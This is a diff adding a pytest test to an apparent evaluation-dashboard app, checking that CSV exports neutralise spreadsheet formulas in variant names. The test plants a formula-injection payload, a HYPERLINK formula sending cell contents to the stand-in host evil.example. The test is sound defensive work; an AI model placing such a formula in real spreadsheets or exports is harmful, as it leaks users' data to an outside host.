@@ -191,3 +191,16 @@ def test_api_report(world, viewer_client):
     body = viewer_client.get(f"/api/v1/dashboards/reports/{report.uuid}").json()
     assert body["uuid"] == str(report.uuid) and body["url"].endswith(f"/dashboards/reports/{report.uuid}/")
     assert viewer_client.get("/api/v1/dashboards/reports/nope").status_code == 404
+
+
+
+def test_csv_exports_neutralise_formula_names(world, viewer_client):
+    from evalhub.dashboards.models import Report
+
+    world.variants["t-7b-sft"].__class__.objects.filter(pk=world.variants["t-7b-sft"].pk).update(
+        name='=HYPERLINK("http://evil.example/?"&A1,"x")')
+    Report.objects.all().delete()  # recompute with the new name
+    rows = list(csv.DictReader(io.StringIO(viewer_client.get(reverse("dashboards:frontier_csv")).content.decode())))
+    sft = next(r for r in rows if r["variant"] == "t-7b-sft")
+    assert sft["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert any(r[key].startswith("-") or r[key][:1].isdigit() for r in rows for key in ("cost", "cost_lower") if r.get(key))
